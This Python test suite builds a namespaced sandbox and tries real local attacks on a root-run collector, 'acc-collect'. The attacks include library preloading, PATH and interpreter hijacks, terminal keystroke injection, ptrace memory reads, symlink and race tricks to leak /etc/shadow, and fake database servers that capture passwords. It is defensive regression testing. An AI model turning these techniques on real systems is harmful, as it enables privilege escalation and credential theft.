#!/usr/bin/env python3
"""Attacks on acc-collect that runs as root, tried for real.

    tests/attack/attack.py ACC-COLLECT [--before] [NAME-PART…]

In a root of its own (mount, pid and ipc namespaces) live root, `neolane`, who
owns the Campaign tree, `stranger`, who owns nothing, and `dba`, whom root may
name for the database's client.  Each attack is prepared as the account that
makes it; then root collects.  It has succeeded if code of the attacker's ran
as root, a file that only root may read went into the bundle, a password came
to anybody that it was not meant for, or what the attack itself says.

Ends with 'N passed, N failed'.  With --before it says of each whether it
succeeds against ACC-COLLECT, and compares that with the column `before`: what
succeeded on the release before these rules.
"""

import array
import ctypes
import fcntl
import glob
import io
import os
import pty
import re
import select
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
ACCOUNTS = {"neolane": 1001, "stranger": 1002, "dba": 1003}
SECRET = "Geheim-4711-word"
FOREIGN = "foreignword4711"
TREE = "/usr/local/neolane/nl6"
COLLECT = "/opt/acc-collect"
EVIDENCE = "/evidence"
CLOCK = "1767322800"


# ---- the root ----

def mount(*words):
    subprocess.run(["mount", *words], check=True)


def world_make(new, binary, pieces):
    """The test's root in the empty folder NEW."""
    mount("-t", "tmpfs", "-o", "mode=755", "tmpfs", new)
    for name in ("etc", "usr", "proc", "dev", "tmp", "var", "home", "opt",
                 "root", "run", "mnt", EVIDENCE.strip("/")):
        os.mkdir(os.path.join(new, name))
    os.chmod(f"{new}/root", 0o700)
    os.chmod(f"{new}/tmp", 0o1777)
    mount("--rbind", "/usr", f"{new}/usr")
    mount("-t", "tmpfs", "-o", "mode=755", "tmpfs", f"{new}/usr/local")
    for name in ("bin", "sbin", "lib", "lib32", "lib64", "libx32"):
        if os.path.islink("/" + name):
            os.symlink(os.readlink("/" + name), f"{new}/{name}")
        elif os.path.isdir("/" + name):
            os.mkdir(f"{new}/{name}")
            mount("--rbind", "/" + name, f"{new}/{name}")
    for name in ("alternatives", "ld.so.cache", "ld.so.conf",
                 "ld.so.conf.d"):
        source = os.path.join("/etc", name)
        if os.path.isdir(source):
            shutil.copytree(source, f"{new}/etc/{name}", symlinks=True)
        elif os.path.exists(source):
            shutil.copy(source, f"{new}/etc/{name}")
    for path in glob.glob(f"{new}/etc/alternatives/java*"):
        os.remove(path)  # it takes a second to start
    mount("-t", "proc", "proc", f"{new}/proc")
    mount("-t", "tmpfs", "-o", "mode=755", "tmpfs", f"{new}/dev")
    for name, minor in (("null", 3), ("zero", 5), ("urandom", 9)):
        os.mknod(f"{new}/dev/{name}", stat.S_IFCHR | 0o666,
                 os.makedev(1, minor))
        os.chmod(f"{new}/dev/{name}", 0o666)
    os.mknod(f"{new}/dev/tty", stat.S_IFCHR | 0o666, os.makedev(5, 0))
    os.chmod(f"{new}/dev/tty", 0o666)
    os.mkdir(f"{new}/dev/pts")
    mount("-t", "devpts", "-o", "newinstance,ptmxmode=0666,mode=620",
          "devpts", f"{new}/dev/pts")
    os.symlink("pts/ptmx", f"{new}/dev/ptmx")
    shutil.copy(binary, f"{new}{COLLECT}")
    os.chmod(f"{new}{COLLECT}", 0o755)
    shutil.copytree(pieces, f"{new}/opt/pieces")
    os.chroot(new)
    os.chdir("/")


def write(path, text, owner=0, mode=0o644, group=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    os.chown(path, owner, owner if group is None else group)
    os.chmod(path, mode)


def folder(path, owner=0, mode=0o755, group=None):
    os.makedirs(path, exist_ok=True)
    os.chown(path, owner, owner if group is None else group)
    os.chmod(path, mode)


def link(target, path, owner):
    os.symlink(target, path)
    os.lchown(path, owner, owner)


def own(path, owner):
    for where, folders, names in os.walk(path):
        for name in [where, *(os.path.join(where, n)
                              for n in folders + names)]:
            os.lchown(name, owner, owner)


def system_make(staff=""):
    """/etc, the homes, and nothing of the last attack."""
    for where in ("/usr/local", "/home", "/tmp", "/var", "/mnt", "/root",
                  EVIDENCE):
        for name in os.listdir(where):
            path = os.path.join(where, name)
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            else:
                os.remove(path)
    for path in glob.glob("/opt/*"):
        if path not in (COLLECT, "/opt/pieces"):
            if os.path.isdir(path):
                shutil.rmtree(path)
            else:
                os.remove(path)
    write("/etc/passwd", "root:x:0:0::/root:/bin/sh\n" + "".join(
        f"{name}:x:{number}:{number}::/home/{name}:/bin/sh\n"
        for name, number in ACCOUNTS.items()) +
        "nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n")
    write("/etc/group", "root:x:0:\ntty:x:5:\n" + "".join(
        f"{name}:x:{number}:\n" for name, number in ACCOUNTS.items()) +
        f"staff:x:50:{staff}\nnogroup:x:65534:\n")
    write("/etc/shadow", f"root:{FOREIGN}:1::::::\n{FOREIGN}\n", mode=0o600)
    write("/etc/hosts", "127.0.0.1 localhost\n")
    write("/etc/hostname", "victim\n")
    write("/etc/nsswitch.conf", "passwd: files\ngroup: files\nhosts: files\n")
    write("/etc/os-release", "ID=debian\nVERSION_ID=12\n")
    for name, number in ACCOUNTS.items():
        folder(f"/home/{name}", number, 0o755)
    folder(EVIDENCE, 0, 0o1777)
    write(f"{EVIDENCE}/ran", "", mode=0o666)
    write("/root/private/conf/config-secret.xml", xml(FOREIGN), mode=0o600)
    write("/root/private/conf/serverConf.xml", xml(FOREIGN), mode=0o600)
    write("/root/private/prod/log/web.log",
          "2013-04-09 07:48:39.749Z 00002E7A 1 info log XTK-471147 x\n",
          mode=0o600)
    folder("/usr/local/bin")
    folder("/var/lib/dpkg")
    write("/var/lib/dpkg/status", "Package: a\nStatus: install ok installed\n"
          "Version: 1\nArchitecture: all\n")


def xml(word):
    return f'<serverconf><mta name="{word}"/></serverconf>\n'


def script(body):
    return "#!/usr/bin/python3\n" + RECORD + body


RECORD = f"""import os, sys
def note(what, words=""):
    with open("{EVIDENCE}/ran", "a") as file:
        file.write(f"{{what}} {{os.getuid()}} {{os.geteuid()}} {{words}}\\n")
note(os.path.basename(sys.argv[0]))
"""


def tree_make(owner=ACCOUNTS["neolane"], nlserver="print('7.0')\n",
              customer=""):
    write(f"{TREE}/conf/serverConf.xml", "<serverConf/>\n")
    write(f"{TREE}/conf/config-default.xml",
          '<serverconf><web autoStart="true"/></serverconf>\n')
    write(f"{TREE}/conf/config-prod.xml", xml("good"))
    write(f"{TREE}/env.sh", "")
    write(f"{TREE}/customer.sh", customer)
    write(f"{TREE}/bin/nlserver", script(nlserver), mode=0o755)
    folder(f"{TREE}/lib")
    folder(f"{TREE}/var/prod/log")
    own("/usr/local/neolane", owner)


# ---- a run ----

class Run:
    """A collection of root's: its status, words and bundle."""

    def __init__(self):
        self.status, self.out, self.bundle, self.late = None, b"", b"", False
        self.pid = None


OUT = "/root/out.tar.gz"


def bundle_bytes(path):
    """All that a bundle holds."""
    try:
        with tarfile.open(path) as archive:
            return b"".join(archive.extractfile(member).read()
                            for member in archive if member.isfile())
    except (OSError, tarfile.TarError):
        return b""


def collect(*options, password=None, env=None, user=None, output=OUT,
            seconds=40, started=None, program=COLLECT, name="--hostname"):
    run = Run()
    argv = [program, name, "victim", "--timeout", "5", *options]
    if output is not None:
        argv += ["-o", output]
    environment = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/root",
                   "SOURCE_DATE_EPOCH": CLOCK}
    environment.update(env or {})
    handed = ()
    if password is not None:
        end, hand = os.pipe()
        os.write(hand, password.encode() + b"\n")
        os.close(hand)
        argv += ["--db-password-fd", str(end)]
        handed = (end,)
    process = subprocess.Popen(
        argv, env=environment, stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, pass_fds=handed,
        cwd="/", **(as_account(user) if user else {}))
    for end in handed:
        os.close(end)
    run.pid = process.pid
    if started is not None:
        started(process)
    try:
        run.out, _ = process.communicate(timeout=seconds)
    except subprocess.TimeoutExpired:
        process.kill()
        run.late = True
        run.out, _ = process.communicate()
    run.status = process.returncode
    if output is not None and os.path.isfile(output):
        run.bundle = bundle_bytes(output)
        os.remove(output)
    RUNS.append(run)
    return run


RUNS = []
HEARD = []  # what listeners of the attacker were told


def as_account(name):
    return {"user": ACCOUNTS[name], "group": ACCOUNTS[name],
            "extra_groups": []}


def evidence():
    found = b""
    for where, _, names in os.walk(EVIDENCE):
        for name in names:
            with open(os.path.join(where, name), "rb") as file:
                found += file.read()
    return found


def judge():
    """What the attack has reached, in words; empty: nothing."""
    reached = []
    with open(f"{EVIDENCE}/ran", encoding="utf-8",
              errors="replace") as file:
        for line in file:
            words = line.split()
            if len(words) > 2 and "0" in words[1:3]:
                reached.append(f"{words[0]} ran as root")
    taken = b"".join(run.bundle for run in RUNS)
    if FOREIGN.encode() in taken or b"XTK-471147" in taken:
        reached.append("a file of root's is in the bundle")
    if SECRET.encode() in evidence() + b"".join(HEARD):
        reached.append("the password is known")
    return sorted(set(reached))


def database(engine="postgresql", host=None, port=None, client=None):
    """Options for a database; by default no account is named."""
    options = ["--db", engine, "--db-name", "camp", "--db-user", "neolane"]
    if host:
        options += ["--db-host", host]
    if port:
        options += ["--db-port", str(port)]
    if client:
        options += ["--db-client", client]
    return options


def ways():
    """The accounts that root may name: nobody, and dba where that is known."""
    told = subprocess.run([COLLECT, "--help"], stdout=subprocess.PIPE,
                          check=False).stdout
    return [[], ["--db-account", "dba"]] if b"--db-account" in told else [[]]


class Listener:
    """A server of somebody's that takes a password in clear."""

    def __init__(self, kind, path=None):
        self.heard, self.kind = [], kind
        if path is None:
            self.socket = socket.create_server(("127.0.0.1", 0))
            self.port = self.socket.getsockname()[1]
        else:
            self.socket = socket.socket(socket.AF_UNIX)
            self.socket.bind(path)
            os.chmod(path, 0o777)
            self.socket.listen()
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                client, _ = self.socket.accept()
            except OSError:
                return
            threading.Thread(target=self.answer, args=(client,),
                             daemon=True).start()

    def answer(self, client):
        client.settimeout(10)
        try:
            if self.kind == "postgresql":
                while data := client.recv(65536):
                    self.heard.append(data)
                    if len(data) >= 8 and struct.unpack(">I", data[4:8])[
                            0] in (80877103, 80877104):
                        client.sendall(b"N")
                    elif data[:1] != b"p":
                        client.sendall(b"R" + struct.pack(">II", 8, 3))
                    else:
                        return
            elif self.kind == "mysql":
                plugin = b"mysql_clear_password\0"
                words = (b"\x0a8.0.0\0" + struct.pack("<I", 1) + b"12345678\0" +
                         struct.pack("<HBHHB", 0xa209, 33, 2, 0x0008, 21) +
                         b"\0" * 10 + b"123456789012\0" + plugin)
                client.sendall(struct.pack("<I", len(words))[:3] + b"\0" +
                               words)
                while (data := client.recv(65536)) and data[3] < 9:
                    self.heard.append(data)
                    again = b"\xfe" + plugin
                    client.sendall(struct.pack("<I", len(again))[:3] +
                                   bytes([data[3] + 1]) + again)
            else:
                while data := client.recv(65536):
                    self.heard.append(data)
        except OSError:
            pass
        finally:
            client.close()

    def stop(self):
        HEARD.extend(self.heard)
        self.socket.close()


def real_psql():
    """The folder of the client itself, not of Debian's wrapper in Perl."""
    found = sorted(glob.glob("/usr/lib/postgresql/*/bin/psql"))
    assert found, "postgresql-client is needed"
    return os.path.dirname(found[-1])


def alive(mark):
    """Is there a process whose arguments hold MARK?"""
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as file:
                    if mark.encode() in file.read():
                        return int(name)
            except OSError:
                pass
    return 0


def gone(mark):
    for _ in range(100):
        if not alive(mark):
            return True
        time.sleep(0.05)
    return False


# ---- libraries ----

def vendor_install(path="/usr/local/bin/psql"):
    shutil.copy("/opt/pieces/vendor", path)
    os.chmod(path, 0o755)
    folder("/usr/local/vendor")
    shutil.copy("/opt/pieces/libvendor.so", "/usr/local/vendor/libvendor.so")


def library_of_customer():
    tree_make(customer=f"export LD_LIBRARY_PATH={TREE}/lib\n")
    shutil.copy("/opt/pieces/evil.so", f"{TREE}/lib/libvendor.so")
    own(TREE, ACCOUNTS["neolane"])
    vendor_install()
    for way in ways():
        collect(*database(), *way)


def library_preloaded():
    tree_make(customer=f"export LD_PRELOAD={TREE}/lib/evil.so\n"
              f"LD_AUDIT={TREE}/lib/evil.so; export LD_AUDIT\n")
    shutil.copy("/opt/pieces/evil.so", f"{TREE}/lib/evil.so")
    own(TREE, ACCOUNTS["neolane"])
    vendor_install()
    for way in ways():
        collect(*database(), *way)


def library_in_roots_tree():
    tree_make(owner=0)
    vendor_install(f"{TREE}/bin/nlserver")
    shutil.copy("/opt/pieces/evil.so", f"{TREE}/lib/libvendor.so")
    os.chown(f"{TREE}/lib/libvendor.so", ACCOUNTS["stranger"],
             ACCOUNTS["stranger"])
    collect()


def library_linked_in_roots_tree():
    tree_make(owner=0)
    vendor_install(f"{TREE}/bin/nlserver")
    folder("/home/stranger/lib", ACCOUNTS["stranger"])
    shutil.copy("/opt/pieces/evil.so", "/home/stranger/lib/libvendor.so")
    os.chown("/home/stranger/lib/libvendor.so", ACCOUNTS["stranger"], 0)
    os.symlink("/home/stranger/lib/libvendor.so", f"{TREE}/lib/libvendor.so")
    collect()


# ---- programs ----

def path_of_root():
    tree_make()
    folder("/opt/tools", 0, 0o777)
    for name in ("psql", "apache2", "java", "rpm"):
        write(f"/opt/tools/{name}", script("print(sys.stdin.read())\n"),
              ACCOUNTS["stranger"], 0o755)
    for way in ways():
        collect(*database(), *way, env={"PATH": "/opt/tools:/usr/bin:/bin"})


def java_of_customer():
    tree_make(customer="JDK_HOME=/home/neolane/jdk\n")
    write("/home/neolane/jdk/bin/java", script(""), ACCOUNTS["neolane"], 0o755)
    collect()


def sqlplus_of_customer():
    """Root's own sqlplus starts the one of ORACLE_HOME."""
    tree_make(customer="export ORACLE_HOME=/home/neolane/oracle\n")
    write("/usr/local/bin/sqlplus",
          '#!/bin/sh\n[ -n "$ORACLE_HOME" ] || exit 1\n'
          'exec "$ORACLE_HOME/bin/sqlplus" "$@"\n', mode=0o755)
    write("/home/neolane/oracle/bin/sqlplus",
          script("note('heard', sys.stdin.read())\n"), ACCOUNTS["neolane"],
          0o755)
    own("/home/neolane", ACCOUNTS["neolane"])
    for way in ways():
        collect(*database("oracle", host="127.0.0.1"), *way, password=SECRET)


def program_of_a_group():
    system_make(staff="stranger")
    tree_make()
    folder("/usr/local/bin", 0, 0o2775, 50)
    write("/usr/local/bin/psql", script(""), mode=0o755)
    write("/usr/local/bin/java", script(""), mode=0o755)
    for way in ways():
        collect(*database(), *way)
    # What root installed there is not executed once a member is in.
    with open(f"{EVIDENCE}/ran", encoding="utf-8") as file:
        return [line for line in file if line.startswith(("psql", "java"))]


def program_with_a_list():
    """An access control list names stranger; the group is empty."""
    tree_make(owner=0)
    path = f"{TREE}/bin/nlserver"
    os.chown(path, 0, 50)
    entries = [(1, 7, 0xffffffff), (2, 7, ACCOUNTS["stranger"]),
               (4, 5, 0xffffffff), (16, 7, 0xffffffff), (32, 5, 0xffffffff)]
    os.setxattr(path, "system.posix_acl_access", struct.pack("<I", 2) +
                b"".join(struct.pack("<HHI", *entry) for entry in entries))
    rewrite = subprocess.run(
        ["/bin/sh", "-c", f"cat /opt/pieces/evil.py > {path}"], check=False,
        **as_account("stranger"))
    assert rewrite.returncode == 0
    collect()


def interpreter_of_a_stranger():
    tree_make(owner=0)
    write("/home/stranger/sh", script(""), ACCOUNTS["stranger"], 0o755)
    write(f"{TREE}/bin/nlserver", "#!/home/stranger/sh\n", 0, 0o755)
    collect()


def interpreter_by_env():
    tree_make(owner=0, customer="PATH=/home/stranger:/usr/bin:/bin\n")
    write("/home/stranger/vendorsh", script(""), ACCOUNTS["stranger"], 0o755)
    write(f"{TREE}/bin/nlserver", "#!/usr/bin/env vendorsh\n", 0, 0o755)
    collect()


def name_in_tmp():
    """A hard link to a program of root's, under a name of the attacker's."""
    tree_make(owner=0)
    write("/opt/danger", script(""), mode=0o755)
    os.link("/opt/danger", "/tmp/nlserver")
    collect("--nlserver", "/tmp/nlserver")


def setuid_collector():
    shutil.copy(COLLECT, "/opt/setuid")
    os.chmod("/opt/setuid", 0o4755)
    collect("--root", "/mnt", "--pdump", "/etc/shadow", user="stranger",
            output="/home/stranger/out.tar.gz", program="/opt/setuid")
    collect("--root", "/mnt", "--db-result", "/etc/shadow", user="stranger",
            output="/home/stranger/out.tar.gz", program="/opt/setuid")


def account_back_to_root():
    tree_make(nlserver="""
for call in (lambda: os.setuid(0), lambda: os.seteuid(0),
             lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0),
             lambda: os.setgroups([0])):
    try:
        call()
        note("back", "0 0")
    except OSError:
        pass
if 0 in os.getgroups() or 0 in (os.getgid(), os.getegid()):
    with open("/evidence/ran", "a") as file:
        file.write("group 0 0\\n")
""")
    # An account that no list knows, in a folder of root's group.
    own("/usr/local/neolane", 4242)
    os.chown(TREE, 4242, 0)
    collect()


# ---- databases ----

def service_of_customer():
    evil, good = Listener("postgresql"), Listener("postgresql")
    tree_make(customer=f"export PGSERVICE=evil\n"
              f"export PGSERVICEFILE={TREE}/service.conf\n")
    write(f"{TREE}/service.conf",
          f"[evil]\nhost=127.0.0.1\nport={evil.port}\n", ACCOUNTS["neolane"])
    for way in ways():
        collect(*database(host="127.0.0.1", port=good.port), *way,
                password=SECRET, env={"PATH": real_psql() + ":/usr/bin:/bin"})
    good.socket.close()
    evil.stop()


def service_of_a_folder():
    evil, good = Listener("postgresql"), Listener("postgresql")
    tree_make(customer=f"PGSERVICE=evil PGSYSCONFDIR={TREE}\n"
              f"PGSERVICE=evil\nPGSYSCONFDIR={TREE}\n")
    write(f"{TREE}/pg_service.conf",
          f"[evil]\nhostaddr=127.0.0.1\nport={evil.port}\n",
          ACCOUNTS["neolane"])
    for way in ways():
        collect(*database(host="127.0.0.1", port=good.port), *way,
                password=SECRET, env={"PATH": real_psql() + ":/usr/bin:/bin"})
    good.socket.close()
    evil.stop()


def passwords_of_roots_home():
    """Campaign's scripts say where the server is, root's home what to say."""
    evil = Listener("postgresql")
    tree_make(customer=f"PGHOST=127.0.0.1\nPGPORT={evil.port}\n")
    write("/root/.pgpass", f"*:*:*:*:{SECRET}\n", mode=0o600)
    for way in ways():
        collect(*database(), *way,
                env={"PATH": real_psql() + ":/usr/bin:/bin"})
    evil.stop()


def passwords_of_a_named_file():
    """The same, named by PGPASSFILE to the account of the tree."""
    evil = Listener("postgresql")
    tree_make(customer=f"PGHOST=127.0.0.1\nPGPORT={evil.port}\n"
              "PGPASSFILE=/root/words\n")
    write("/root/words", f"*:*:*:*:{SECRET}\n", mode=0o600)
    for way in ways():
        collect(*database(), *way,
                env={"PATH": real_psql() + ":/usr/bin:/bin"})
    evil.stop()


def options_of_mysql():
    """A file of options of the tree sends root's own password elsewhere."""
    evil = Listener("mysql")
    tree_make(customer=f"MYSQL_HOME={TREE}\n")
    write(f"{TREE}/my.cnf", f"[client]\nport={evil.port}\n",
          ACCOUNTS["neolane"])
    write("/root/.my.cnf", f"[client]\npassword={SECRET}\n", mode=0o600)
    for way in ways():
        collect(*database("mysql", host="127.0.0.1"), *way)
    evil.stop()


def library_of_oracle():
    tree_make(customer="ORACLE_HOME=/home/neolane/oracle\n"
              "LD_LIBRARY_PATH=$ORACLE_HOME/lib\n")
    folder("/home/neolane/oracle/lib", ACCOUNTS["neolane"])
    shutil.copy("/opt/pieces/evil.so", "/home/neolane/oracle/lib/libvendor.so")
    own("/home/neolane", ACCOUNTS["neolane"])
    vendor_install("/usr/local/bin/sqlplus")
    for way in ways():
        collect(*database("oracle", host="127.0.0.1"), *way, password=SECRET)


def neighbour_watches():
    """Processes of the tree's owner look into all that they may look into."""
    tree_make()
    # A client of root's own making that waits, so that there is time to look.
    write("/usr/local/bin/sqlplus", "#!/bin/sh\nsleep 2\n", mode=0o755)
    write("/home/neolane/watch", """
import os, sys
def look(path):
    try:
        with open(path, "rb") as file:
            return file.read(1000000)
    except OSError:
        return b""
while True:
    found = b""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        found += look(f"/proc/{pid}/environ") + look(f"/proc/{pid}/cmdline")
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                to = os.readlink(f"/proc/{pid}/fd/{fd}")
                if "pipe:" not in to and "socket:" not in to:
                    found += look(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
    at = found.find(b"%s")
    if at >= 0:
        with open("/evidence/ran", "ab") as file:
            file.write(found[at:at + 40] + b"\\n")
""" % SECRET, ACCOUNTS["neolane"])
    watch = subprocess.Popen(["/usr/bin/python3", "/home/neolane/watch"],
                             **as_account("neolane"))
    time.sleep(0.3)
    try:
        for way in ways():
            collect(*database("oracle", host="127.0.0.1"), *way,
                    password=SECRET)
    finally:
        watch.kill()
        watch.wait()


# ---- the terminal, descriptors, processes ----

def terminal_typed():
    """nlserver types a command into the terminal from which root started."""
    tree_make(nlserver="""
import fcntl, termios
line = "touch /evidence/typed\\n"
ends = list(range(0, 64))
for name in ("/dev/tty", *("/dev/pts/%d" % n for n in range(8))):
    try:
        ends.append(os.open(name, os.O_RDWR))
    except OSError:
        pass
for end in ends:
    try:
        for c in line:
            fcntl.ioctl(end, termios.TIOCSTI, c.encode())
        break
    except OSError:
        pass
""")
    pid, terminal = pty.fork()
    if pid == 0:
        os.execve("/bin/sh", ["sh", "-i"],
                  {"PATH": "/usr/bin:/bin", "HOME": "/root", "PS1": "$ "})
    shown, asked = b"", False
    until = time.monotonic() + 60
    while time.monotonic() < until and b"\nthe-end\r" not in shown:
        if b"$ " in shown and not asked:
            asked = True
            os.write(terminal, f"{COLLECT} --hostname victim -o {OUT}; echo "
                     "the-end\n".encode())
        if select.select([terminal], [], [], 0.2)[0]:
            try:
                shown += os.read(terminal, 65536)
            except OSError:
                break
    time.sleep(1)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    os.close(terminal)
    assert b"SHA-256" in shown, shown
    return ["a command was typed into root's terminal"] if os.path.exists(
        f"{EVIDENCE}/typed") else []


def descriptors_inherited():
    tree_make(nlserver="""
for name in os.listdir("/proc/self/fd"):
    try:
        if int(name) > 2:
            os.set_blocking(int(name), False)
            note("descriptor", name + repr(os.read(int(name), 4096)))
    except OSError:
        pass
""")
    secret = os.open("/etc/shadow", os.O_RDONLY)
    os.set_inheritable(secret, True)
    try:
        collect(*database("oracle", host="127.0.0.1"), password=SECRET)
        subprocess.run([COLLECT, "--hostname", "x", "-o", OUT],
                       close_fds=False, check=False, stdout=subprocess.PIPE)
    finally:
        os.close(secret)
        if os.path.exists(OUT):
            os.remove(OUT)
    return ["a file of root's was read through a descriptor"] if (
        FOREIGN.encode() in evidence()) else []


PARENTS = """
def parents():
    pid = os.getpid()
    while pid > 1:
        with open(f"/proc/{pid}/status") as file:
            pid = int([l for l in file if l.startswith("PPid")][0].split()[1])
        if pid > 1:
            yield pid
"""


def parent_environment():
    tree_make(nlserver=PARENTS + """
for pid in parents():
    for name in ("environ", "cmdline", "auxv"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                note("read", repr(file.read()))
        except OSError:
            pass
""")
    for way in ways():
        collect(*database(host="127.0.0.1", port=1), *way,
                env={"PGPASSWORD": SECRET})


def parent_memory():
    tree_make(nlserver=PARENTS + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in parents():
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        if libc.ptrace(request, pid, None, None) == 0:
            with open("/evidence/ran", "a") as file:
                file.write("traced 0 0\\n")
    try:
        with open(f"/proc/{pid}/maps") as maps, \\
                open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                mem.seek(low)
                note("memory", repr(mem.read(high - low)))
    except (OSError, ValueError, OverflowError):
        pass
""")
    for way in ways():
        collect(*database(host="127.0.0.1", port=1), *way, password=SECRET)


def signals_to_parents():
    tree_make(nlserver=PARENTS + """
import signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for pid in [*parents(), 0, -os.getppid()]:
    for number in (signal.SIGKILL, signal.SIGSTOP):
        if pid == 0 and number == signal.SIGKILL:
            number = signal.SIGTERM
        try:
            os.kill(pid, number)
        except OSError:
            pass
print("7.0")
""")
    run = collect()
    return [] if run.status in (0, 3) and run.bundle else [
        f"root's run ended with {run.status}"]


def process_left_behind():
    tree_make(nlserver="""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "while :; do echo x; sleep 1; done",
                             "left-behind"])
    os._exit(0)
print("7.0")
""")
    collect()
    time.sleep(0.5)
    pid = alive("left-behind")
    if pid:
        os.kill(pid, signal.SIGKILL)
    return ["a process of it goes on"] if pid else []


def collector_killed():
    tree_make(nlserver="""
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["sleep", "77.1"])
os.execv("/bin/sleep", ["sleep", "77.2"])
""")

    def kill(process):
        for _ in range(400):
            if alive("77.1") and alive("77.2"):
                break
            time.sleep(0.02)
        process.kill()

    collect(started=kill)
    left = [mark for mark in ("77.1", "77.2") if not gone(mark)]
    for mark in left:
        os.kill(alive(mark), signal.SIGKILL)
    return [f"after SIGKILL {len(left)} processes go on"] if left else []


# ---- files ----

def tree_is_etc():
    tree_make()
    os.symlink("/etc", "/usr/local/neolane/nl5")
    os.lchown("/usr/local/neolane/nl5", ACCOUNTS["neolane"], 0)
    os.remove(f"{TREE}/conf/config-prod.xml")
    link("/etc/shadow", f"{TREE}/conf/config-prod.xml", ACCOUNTS["neolane"])
    collect()


def tree_is_another_application():
    """A folder of root's that has a conf of its own."""
    tree_make()
    shutil.copytree("/root/private", "/opt/other")
    os.chmod("/opt/other", 0o700)
    os.chmod("/opt/other/conf/serverConf.xml", 0o600)
    os.chmod("/opt/other/conf/config-secret.xml", 0o600)
    link("/opt/other", "/usr/local/neolane/nl5", ACCOUNTS["neolane"])
    collect()


def link_to_shadow():
    tree_make()
    link("/etc/shadow", f"{TREE}/conf/config-x.xml", ACCOUNTS["neolane"])
    link("../../../../../etc/shadow", f"{TREE}/conf/config-y.xml",
         ACCOUNTS["neolane"])
    os.remove(f"{TREE}/customer.sh")
    link("/etc/shadow", f"{TREE}/customer.sh", ACCOUNTS["neolane"])
    collect()


def link_instead_of_conf():
    tree_make()
    shutil.rmtree(f"{TREE}/conf")
    link("/root/private/conf", f"{TREE}/conf", ACCOUNTS["neolane"])
    collect()


def link_hard():
    tree_make()
    write("/usr/local/private/word", xml(FOREIGN), mode=0o600)
    write("/usr/local/private/log", "2013-04-09 07:48:39.749Z 00002E7A 1 info "
          "log XTK-471147 x\n", mode=0o600)
    os.link("/usr/local/private/word", f"{TREE}/conf/config-h.xml")
    os.link("/usr/local/private/word", f"{TREE}/conf/serverConf.xml.diff")
    os.link("/usr/local/private/log", f"{TREE}/var/prod/log/web.log")
    collect()


def link_of_a_chain():
    """Into a folder that the recipe follows, and out of it again."""
    tree_make()
    folder("/etc/apache2/mods-enabled", ACCOUNTS["neolane"])
    link("/etc/apache2/mods-enabled/out", f"{TREE}/conf/config-c.xml",
         ACCOUNTS["neolane"])
    link("/root/private/conf/config-secret.xml", "/etc/apache2/mods-enabled/out",
         ACCOUNTS["neolane"])
    link("/root/private", "/etc/apache2/mods-enabled/on", ACCOUNTS["neolane"])
    link("/etc/apache2/mods-enabled/on/conf/config-secret.xml",
         f"{TREE}/conf/config-d.xml", ACCOUNTS["neolane"])
    collect()
    shutil.rmtree("/etc/apache2")


def var_elsewhere():
    tree_make(customer="XTK_VAR_DIR=/root/private\n")
    collect()


def var_linked():
    tree_make()
    shutil.rmtree(f"{TREE}/var")
    link("/root/private", f"{TREE}/var", ACCOUNTS["neolane"])
    collect()


def log_linked():
    tree_make()
    link("/root/private/prod/log/web.log", f"{TREE}/var/prod/log/web.log",
         ACCOUNTS["neolane"])
    link("/root/private/prod", f"{TREE}/var/other", ACCOUNTS["neolane"])
    collect()


def image_with_links():
    shutil.copytree("/etc/alternatives", "/mnt/etc/alternatives",
                    symlinks=True)
    conf = "/mnt" + TREE + "/conf"
    write(f"{conf}/serverConf.xml", "<serverConf/>\n")
    up = "../" * 12
    link(f"{up}etc/shadow", f"{conf}/config-a.xml", ACCOUNTS["neolane"])
    link("/proc/1/root/etc/shadow", f"{conf}/config-b.xml",
         ACCOUNTS["neolane"])
    link(f"{up}root/private", "/mnt/usr/local/neolane/nl5",
         ACCOUNTS["neolane"])
    own("/mnt", ACCOUNTS["neolane"])
    collect("--root", "/mnt")


class Swapper:
    """Exchanges two names as fast as it can, as an account."""

    def __init__(self, account, one, two):
        self.process = subprocess.Popen(
            ["/usr/bin/python3", "-c", f"""
import ctypes
libc = ctypes.CDLL(None)
while True:
    libc.renameat2(-100, {one.encode()!r}, -100, {two.encode()!r}, 2)
"""], **as_account(account))

    def stop(self):
        self.process.kill()
        self.process.wait()


def swapped_file():
    tree_make()
    hidden = f"{TREE}/conf/hidden"
    link("/root/private/conf/config-secret.xml", hidden, ACCOUNTS["neolane"])
    swap = Swapper("neolane", f"{TREE}/conf/config-prod.xml", hidden)
    for _ in range(15):
        collect("--no-commands")
    swap.stop()


def swapped_folder():
    tree_make()
    hidden = f"{TREE}/hidden"
    link("/root/private/conf", hidden, ACCOUNTS["neolane"])
    swap = Swapper("neolane", f"{TREE}/conf", hidden)
    for _ in range(15):
        collect("--no-commands")
    swap.stop()


def swapped_tree():
    tree_make()
    link("/root/private", "/usr/local/neolane/hidden", ACCOUNTS["neolane"])
    swap = Swapper("neolane", TREE, "/usr/local/neolane/hidden")
    for _ in range(15):
        collect("--no-commands")
    swap.stop()


